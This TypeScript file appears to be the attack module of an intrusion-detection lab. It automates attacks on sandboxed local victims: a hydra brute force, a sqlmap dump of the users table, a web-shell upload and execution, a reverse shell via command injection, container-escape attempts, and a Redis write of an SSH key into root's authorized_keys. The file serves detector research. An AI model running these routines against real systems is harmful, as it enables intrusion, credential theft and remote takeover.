/**
 * The lab's attacks. Each runs from outside the victim's "container" (not traced, not in its
 * pid namespace) but inside its network namespace, with real attack tools from Debian where
 * there is one (hydra, sqlmap, curl, redis-cli), and reports what it achieved. An attack that
 * fails (a password not found, an escape that is refused) is still recorded: the attempt is
 * what the detector has to see.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { ChidsError } from '../util/errors.js';
import type { Sandbox } from './sandbox.js';
import { SANDBOX_PATH } from './sandbox.js';
import { labDir, type VictimName } from './victims.js';
import { sleep as delay } from '../util/sleep.js';

export interface AttackContext {
  sandbox: Sandbox;
  /** Host directory the attacker may write to (hydra's restore file, sqlmap's session, cookies). */
  dir: string;
  /** Epoch ms by which the attack must be over (it is killed then). */
  deadlineMs: number;
  log: (msg: string) => void;
}

export interface AttackOutcome {
  /** The attack reached its goal (password found, shell connected, file written, …). */
  succeeded: boolean;
  /** One line about what happened. */
  detail: string;
  /** The commands run, for the recording's metadata. */
  commands: string[];
  /**
   * How much the victim answered, when the attack itself can tell (Redis: lines of replies);
   * otherwise the lab counts the attack's requests in the victim's own log
   * (Victim.attackerRequests). 0 = the attack never reached the victim.
   */
  answered?: number;
}

export interface Attack {
  name: string;
  cwe: string;
  title: string;
  victims: VictimName[];
  /** Programs it needs on the host (checked before the recording starts). */
  programs: string[];
  run(ctx: AttackContext): Promise<AttackOutcome>;
}

interface Ran {
  code: number | null;
  stdout: string;
  stderr: string;
  timedOut: boolean;
}

const OUTPUT_LIMIT = 1 << 20;

/** Runs one command in the sandbox's network namespace, bounded by the attack's deadline. */
function runIn(ctx: AttackContext, cmd: string, args: string[], opts: { input?: string; maxMs?: number; cwd?: string } = {}): Promise<Ran> {
  return new Promise((resolve) => {
    const child = ctx.sandbox.spawnInNet(cmd, args, {
      cwd: opts.cwd ?? ctx.dir,
      env: { PATH: SANDBOX_PATH, HOME: ctx.dir, LANG: 'C.UTF-8', TERM: 'dumb' },
      stdio: [opts.input === undefined ? 'ignore' : 'pipe', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    let timedOut = false;
    const ms = Math.max(100, Math.min(opts.maxMs ?? Infinity, ctx.deadlineMs - Date.now()));
    const timer = setTimeout(() => {
      timedOut = true;
      ctx.sandbox.killChild(child, 'SIGKILL');
    }, ms);
    child.stdout?.on('data', (d: Buffer) => {
      if (stdout.length < OUTPUT_LIMIT) stdout += d.toString('utf8');
    });
    child.stderr?.on('data', (d: Buffer) => {
      if (stderr.length < OUTPUT_LIMIT) stderr += d.toString('utf8');
    });
    if (opts.input !== undefined) {
      child.stdin?.on('error', () => undefined);
      child.stdin?.end(opts.input);
    }
    child.once('error', (err) => {
      clearTimeout(timer);
      resolve({ code: -1, stdout, stderr: stderr + String(err), timedOut });
    });
    child.once('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr, timedOut });
    });
  });
}

const WEB = 'http://127.0.0.1:8080';
/** hydra's parallel logins (-t). */
const HYDRA_TASKS = 4;

const bruteforce: Attack = {
  name: 'bruteforce',
  cwe: 'CWE-307',
  title: 'login brute force with hydra (no rate limit or lockout on /login)',
  victims: ['web'],
  programs: ['hydra', 'curl'],
  async run(ctx) {
    const words = readFileSync(path.join(labDir(), 'attacks', 'passwords.txt'), 'utf8').split('\n').filter((w) => w.length > 0);
    const commands: string[] = [];
    const falseHits: string[] = [];
    let timedOut = false;
    let list = words;
    // hydra takes any answer without the failure text for a hit, an error page of a loaded
    // victim included (seen: "found dave:monkey" after 25 requests). Like an attacker, check a
    // hit with one login of our own and go on with the rest of the list when it is wrong.
    for (let round = 0; round < words.length && list.length > 0 && Date.now() < ctx.deadlineMs - 500; round++) {
      const file = path.join(ctx.dir, `passwords-${round}.txt`);
      writeFileSync(file, list.join('\n') + '\n');
      const args = ['-l', 'dave', '-P', file, '-s', '8080', '-t', String(HYDRA_TASKS), '-f', '-I', '-w', '10', '127.0.0.1', 'http-post-form', '/login:user=^USER^&pass=^PASS^:F=Invalid username'];
      commands.push(shown('hydra', args).split(ctx.dir).join('.'));
      const r = await runIn(ctx, 'hydra', args);
      timedOut ||= r.timedOut;
      const found = /login:\s*(\S+)\s+password:\s*(\S+)/.exec(r.stdout);
      if (!found) break;
      const check = ['-s', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', '--data-urlencode', `user=${found[1]}`, '--data-urlencode', `pass=${found[2]}`, `${WEB}/login`];
      commands.push(shown('curl', check));
      const c = await runIn(ctx, 'curl', check);
      // A good login answers with a redirect to /account; a wrong one with the form again (200).
      if (c.stdout.trim() === '302') {
        return { succeeded: true, detail: `found ${found[1]}:${found[2]}${falseHits.length ? ` (after ${falseHits.length} false hit${falseHits.length > 1 ? 's' : ''} of hydra: ${falseHits.join(', ')})` : ''}`, commands };
      }
      falseHits.push(found[2]);
      // hydra tries HYDRA_TASKS passwords at a time: go on from just before the false hit, so
      // that none in flight with it is skipped, without the false hits.
      const at = list.indexOf(found[2]);
      list = list.slice(Math.max(0, at - HYDRA_TASKS)).filter((w) => !falseHits.includes(w));
    }
    return {
      succeeded: false,
      detail: `no password found${falseHits.length ? ` (hydra's false hits: ${falseHits.join(', ')})` : ''}${timedOut ? ' (stopped at the deadline)' : ''}`,
      commands,
    };
  },
};

const sqli: Attack = {
  name: 'sqli',
  cwe: 'CWE-89',
  title: 'SQL injection in /search with sqlmap (boolean-blind and UNION), dumping the users table',
  victims: ['web'],
  programs: ['sqlmap'],
  async run(ctx) {
    const out = path.join(ctx.dir, 'sqlmap');
    mkdirSync(out, { recursive: true });
    const args = [
      '-u', `${WEB}/search?q=tea`, '-p', 'q', '--batch', '--dbms=SQLite', '--technique=BU', '--level=3', '--risk=1',
      '--threads=2', '--timeout=5', '--retries=0', '--flush-session', '--disable-coloring', `--output-dir=${out}`,
      '--dump', '-T', 'users,secrets',
    ];
    const r = await runIn(ctx, 'sqlmap', args);
    const injectable = /parameter 'q' is vulnerable|sqlmap identified the following injection point/i.test(r.stdout);
    const dumped = /Table: users/i.test(r.stdout);
    return {
      succeeded: injectable,
      detail: `${injectable ? 'injection found' : 'no injection found'}${dumped ? ', users table dumped' : ''}${r.timedOut ? ' (stopped at the deadline)' : ''}`,
      commands: [shown('sqlmap', args)],
    };
  },
};

const uploadExec: Attack = {
  name: 'upload-exec',
  cwe: 'CWE-434',
  title: 'upload of a CGI web shell (any file type accepted), then executed through /uploads/',
  victims: ['web'],
  programs: ['curl'],
  async run(ctx) {
    const lab = labDir();
    const jar = path.join(ctx.dir, 'cookies.txt');
    const cmds: string[] = [];
    const curl = async (args: string[]) => {
      cmds.push(shown('curl', args));
      return runIn(ctx, 'curl', ['-s', '-m', '5', ...args]);
    };
    await curl(['-c', jar, '-d', 'user=mallory&pass=mallory1', `${WEB}/login`]);
    await curl(['-b', jar, '-F', `file=@${path.join(lab, 'attacks', 'shell.cgi')};filename=thumbnail.cgi;type=image/png`, `${WEB}/upload`]);
    let ok = false;
    const commands = readFileSync(path.join(lab, 'attacks', 'upload-commands.txt'), 'utf8').split('\n').filter((l) => l.trim());
    for (const c of commands) {
      if (Date.now() > ctx.deadlineMs - 500) break;
      const r = await curl([`${WEB}/uploads/mallory/thumbnail.cgi?cmd=${encodeURIComponent(c)}`]);
      if (c === 'id' && /uid=\d+/.test(r.stdout)) ok = true;
    }
    return { succeeded: ok, detail: ok ? 'web shell uploaded and executed' : 'web shell did not run', commands: cmds };
  },
};

const cmdInjection: Attack = {
  name: 'cmd-injection',
  cwe: 'CWE-78',
  title: 'OS command injection in /diag/ping to a reverse shell (bash /dev/tcp) and hands-on recon',
  victims: ['web'],
  programs: ['bash'],
  async run(ctx) {
    const lab = labDir();
    const args = [path.join(lab, 'attacks', 'revshell.mjs'), '--mode', 'shell', '--commands', path.join(lab, 'attacks', 'revshell-commands.txt'), '--deadline', String(Math.max(Date.now() + 2000, ctx.deadlineMs - 500))];
    const r = await runIn(ctx, process.execPath, args);
    const res = parseJson(r.stdout) as { connected?: boolean; output?: string } | null;
    return {
      succeeded: res?.connected === true && /uid=\d+/.test(res.output ?? ''),
      detail: res?.connected ? `reverse shell connected (${(res.output ?? '').length} bytes of output)` : 'no reverse shell connection',
      commands: [shown('node', args)],
    };
  },
};

const containerEscape: Attack = {
  name: 'escape',
  cwe: 'CWE-250',
  title: 'container-escape attempts through the command injection: /proc/1/environ, runtime sockets, mount, cgroup release_agent, core_pattern, nsenter, unshare',
  victims: ['web'],
  programs: ['base64'],
  async run(ctx) {
    const lab = labDir();
    const args = [path.join(lab, 'attacks', 'revshell.mjs'), '--mode', 'inline', '--script', path.join(lab, 'attacks', 'escape.sh'), '--deadline', String(Math.max(Date.now() + 2000, ctx.deadlineMs - 500))];
    const r = await runIn(ctx, process.execPath, args);
    const res = parseJson(r.stdout) as { connected?: boolean; output?: string } | null;
    const out = res?.output ?? '';
    const refused = (out.match(/Permission denied|Operation not permitted|not permitted|must be superuser|No such file/gi) ?? []).length;
    return {
      // The goal (leaving the sandbox) is not reachable as www-data: the attempts are the point.
      succeeded: false,
      detail: res?.connected ? `escape script ran through the injection (${out.split('\n').length} lines of output, ${refused} refusals)` : 'injection failed',
      commands: [shown('node', args)],
    };
  },
};

const redisConfigWrite: Attack = {
  name: 'redis-config-write',
  cwe: 'CWE-306',
  title: 'unauthenticated Redis: CONFIG SET dir/dbfilename + SAVE writes an SSH key to /root/.ssh/authorized_keys and a .bash_profile',
  victims: ['web', 'redis'],
  programs: ['redis-cli'],
  async run(ctx) {
    const script = readFileSync(path.join(labDir(), 'attacks', 'redis-config-write.txt'), 'utf8');
    const args = ['-h', '127.0.0.1', '-p', '6379'];
    const commands = [`redis-cli ${args.join(' ')} < lab/attacks/redis-config-write.txt`];
    // Redis refuses SAVE while a background save is writing a snapshot ("ERR Background save
    // already in progress"), and the victim's own clients ask for those (the backup job's
    // BGSAVE, the `save` rule). Under strace on a loaded machine a snapshot can take long
    // enough to be running when the script's SAVE arrives, and then no key is written. A real
    // attacker who reads that error waits for the snapshot to end and runs the script again:
    // so does this one, until its deadline.
    let r: Ran;
    let answered = 0;
    let attempts = 0;
    for (;;) {
      attempts++;
      r = await runIn(ctx, 'redis-cli', args, { input: script });
      // redis-cli prints every reply (OK, an error, a value, "(nil)"), one or more lines each.
      answered += r.stdout.split('\n').filter((l) => l.trim()).length;
      if (!BGSAVE_BUSY.test(r.stdout) || attempts >= 5 || Date.now() > ctx.deadlineMs - 1000) break;
      if (attempts === 1) commands.push(`redis-cli ${args.join(' ')} INFO persistence   (until rdb_bgsave_in_progress:0, then the script again)`);
      answered += await waitForBackgroundSave(ctx, args);
    }
    const oks = (r.stdout.match(/^OK$/gm) ?? []).length;
    const saved = /^OK$/m.test(r.stdout) && !/ERR/.test(r.stdout);
    const retried = attempts > 1 ? `; ran the script ${attempts} times (a background save was in progress)` : '';
    return {
      succeeded: saved,
      detail: `${oks} OK replies${/ERR/.test(r.stdout) ? `, errors: ${(/ERR[^\n]*/.exec(r.stdout) ?? [''])[0]}` : ''}${retried}`,
      commands,
      answered,
    };
  },
};

const BGSAVE_BUSY = /Background save already in progress/;

/** Polls INFO persistence until no background save runs (bounded by the deadline); returns the reply lines. */
async function waitForBackgroundSave(ctx: AttackContext, args: string[]): Promise<number> {
  let lines = 0;
  for (let i = 0; i < 200 && Date.now() < ctx.deadlineMs - 1000; i++) {
    const info = await runIn(ctx, 'redis-cli', [...args, 'INFO', 'persistence'], { maxMs: 2000 });
    lines += info.stdout.split('\n').filter((l) => l.trim()).length;
    if (/^rdb_bgsave_in_progress:0\s*$/m.test(info.stdout)) break;
    await delay(100);
  }
  return lines;
}

export const ATTACKS: readonly Attack[] = [bruteforce, sqli, uploadExec, cmdInjection, containerEscape, redisConfigWrite];

export function attackNamed(name: string): Attack {
  const a = ATTACKS.find((x) => x.name === name);
  if (!a) throw new ChidsError(`unknown attack '${name}' (choose one of: ${ATTACKS.map((x) => x.name).join(', ')}, all, none)`);
  return a;
}

export function attacksFor(victim: VictimName): Attack[] {
  return ATTACKS.filter((a) => a.victims.includes(victim));
}

function parseJson(text: string): unknown {
  const line = text.trim().split('\n').pop() ?? '';
  try {
    return JSON.parse(line);
  } catch {
    return null;
  }
}

/** A command line for the metadata, with the lab's directory written `lab/` (not the host path). */
function shown(cmd: string, args: string[]): string {
  const lab = labDir();
  return [cmd, ...args].map((a) => shellQuote(a.split(lab).join('lab'))).join(' ');
}

function shellQuote(s: string): string {
  return /^[\w@%+=:,./-]+$/.test(s) ? s : `'${s.replace(/'/g, `'\\''`)}'`;
}
